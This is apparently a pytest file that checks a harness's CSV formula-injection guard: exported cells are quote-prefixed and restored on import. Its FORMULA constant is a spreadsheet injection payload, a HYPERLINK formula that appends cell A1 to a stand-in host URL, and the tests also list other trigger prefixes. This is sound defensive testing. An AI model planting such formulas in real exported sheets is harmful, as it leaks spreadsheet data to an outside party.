"""Issue #19 item 11: CSVs for spreadsheets are formula-safe on export, and the guard is gone again on import."""

from __future__ import annotations

from dataclasses import replace

from hypothesis import given
from hypothesis import strategies as st

from harness.cli import main
from harness.drafting.records import read_drafts, write_drafts
from harness.inputs import guard, unguard
from harness.review.book import ReviewBook
from harness.review.csv_io import export_csv, import_csv, passages_by_answer
from harness.rows import answer_sha256
from tests.support import draft_rules as rules
from tests.support.rowkit import make_row

FORMULA = '=HYPERLINK("http://x.example/?"&A1,"all claims verified")'


@given(st.text())
def test_guard_then_unguard_is_the_same_text(text):
    assert unguard(guard(text)) == text


def test_cells_a_spreadsheet_would_evaluate_are_prefixed():
    for cell in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "'=1"):
        assert guard(cell) == "'" + cell
    for cell in ("plain", "EUR 160", "'quoted", " =1", ""):
        assert guard(cell) == cell


def test_review_export_guards_answers_and_claims_and_imports_them_unchanged(tmp_path):
    row = make_row("c1", {"facts": 1.0, "claims_supported": None}, answer=FORMULA + ". The limit is EUR 160.",
                   question="@who?", retrieved=["doc.pdf#p1"])
    text = export_csv([row], ReviewBook.of([]), reviewer="ann")
    assert ",'@who?," in text and "\"'=HYPERLINK" in text
    sheet = tmp_path / "r.csv"
    sheet.write_text(text.replace(",,,,\n", ",supported,doc.pdf#p1,,\n"))
    assert text.count("'=HYPERLINK") == 3  # the answer on both lines, and the first claim
    back = import_csv(sheet, reviewer="ann", reviewed_at="t", known=passages_by_answer([row]))
    review = back.review_of(("c1", answer_sha256(row.answer.model_answer)), "ann")
    assert [c.claim for c in review.claims] == [FORMULA + ".", "The limit is EUR 160."]


def test_draft_review_export_guards_and_an_unchanged_sheet_is_no_edit(drafts_file, tmp_path):
    drafts = read_drafts(drafts_file)
    first = next(i for i, d in enumerate(drafts) if d.question == rules.GOOD_HOTEL["question"])
    drafts[first] = replace(drafts[first], question="=" + drafts[first].question)
    write_drafts(drafts_file, drafts)
    sheet = tmp_path / "review.csv"
    assert main(["draft", "review", str(drafts_file), "--export", str(sheet)]) == 0
    rows = rules.csv_rows(sheet)
    line = next(r for r in rows if r["draft_id"] == drafts[first].draft_id)
    assert line["question"] == "'" + drafts[first].question
    line["decision"] = "accepted"
    rules.write_csv(sheet, rows)
    assert main(["draft", "review", str(drafts_file), "--import", str(sheet), "--reviewer", "ann"]) == 0
    after = next(d for d in read_drafts(drafts_file) if d.draft_id == drafts[first].draft_id)
    assert after.question == drafts[first].question and after.decision.status == "accepted" and after.original is None
